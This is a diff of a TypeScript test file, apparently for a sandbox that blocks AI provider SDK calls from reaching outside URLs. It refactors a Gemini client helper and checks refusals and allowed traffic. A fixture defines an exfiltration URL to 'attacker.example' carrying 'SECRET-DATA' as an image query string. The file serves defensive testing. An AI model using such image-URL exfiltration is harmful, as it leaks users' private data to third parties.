@@ -10,7 +10,7 @@ import { ApiError, GoogleGenAI } from '@google/genai';
 import OpenAI from 'openai';
 import { describe, expect, it } from 'vitest';
 import type { MockKind } from '../../mocks/index.js';
-import { providerStackForFile, type Stack } from './harness.js';
+import { genaiClient, providerStackForFile } from './harness.js';
 
 const KINDS: readonly MockKind[] = ['openai', 'anthropic', 'gemini'];
 const closed = providerStackForFile('reach-closed', { kinds: KINDS });
@@ -18,11 +18,6 @@ const open = providerStackForFile('reach-open', { kinds: KINDS, extra: { models:
 
 const EXFIL = 'https://attacker.example/pixel.png?d=SECRET-DATA';
 const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
-
-function genai(stack: Stack): GoogleGenAI {
-  const through = (url: string | URL | Request, init?: RequestInit) => stack.fetch(new URL(String(url)).pathname, init as never) as unknown as Promise<Response>;
-  return new GoogleGenAI({ apiKey: 'unused', httpOptions: { baseUrl: 'http://airlock', fetch: through as never, retryOptions: { attempts: 1 } } });
-}
 
 /** What each SDK's call asks the provider to reach, by API: [name, call, the param the refusal names]. */
 const OPENAI_CHAT: [string, (c: OpenAI) => Promise<unknown>, string][] = [
@@ -136,7 +131,7 @@ describe('a sandbox that allows its providers to reach nothing (the default)', (
 
   it.each(GEMINI)('refuses %s in the Gemini API, in Google\'s shape', async (_name, call, param) => {
     const before = sent();
-    const error = await call(genai(closed.stack)).catch((e: unknown) => e);
+    const error = await call(genaiClient(closed.stack)).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(ApiError);
     expect(error).toMatchObject({ status: 400, message: expect.stringContaining('reaches past the sandbox') });
     expect((error as Error).message).toContain(param);
@@ -168,7 +163,7 @@ describe('a sandbox that allows its providers to reach nothing (the default)', (
   it('serves what stays inside: images as data, a Gemini file uploaded to Google, a tool input that names a URL, hosted tools that reach nothing', async () => {
     const chat = await closed.stack.openai().chat.completions.create({ model: 'via-anthropic', messages: [{ role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image_url', image_url: { url: `data:image/png;base64,${PNG}` } }] }] });
     expect(chat.choices[0]!.message.content).toContain('describe');
-    const uploaded = await genai(closed.stack).models.generateContent({ model: 'via-gemini', contents: [{ role: 'user', parts: [{ fileData: { fileUri: 'https://generativelanguage.googleapis.com/v1beta/files/abc123', mimeType: 'application/pdf' } }, { text: 'summarise' }] }] });
+    const uploaded = await genaiClient(closed.stack).models.generateContent({ model: 'via-gemini', contents: [{ role: 'user', parts: [{ fileData: { fileUri: 'https://generativelanguage.googleapis.com/v1beta/files/abc123', mimeType: 'application/pdf' } }, { text: 'summarise' }] }] });
     expect(uploaded.text).toContain('summarise');
     const history = await closed.stack.anthropic().messages.create({
       model: 'via-anthropic',
@@ -209,7 +204,7 @@ describe('a sandbox that allows them (models.providerReach: [web, mcp, urls])', 
     for (const [, call] of [...OPENAI_CHAT, ...RESPONSES]) await call(openai);
     const anthropic = open.stack.anthropic();
     for (const [, call] of MESSAGES) await call(anthropic);
-    for (const [, call] of GEMINI) await call(genai(open.stack));
+    for (const [, call] of GEMINI) await call(genaiClient(open.stack));
     const bodies = (kind: MockKind) => open.mocks.get(kind)!.received.map((r) => JSON.stringify(r.body));
     expect(bodies('openai').filter((b) => b.includes('attacker.example') || b.includes('web_search'))).toHaveLength(5);
     expect(bodies('anthropic').filter((b) => b.includes('attacker.example') || b.includes('web_fetch'))).toHaveLength(4);
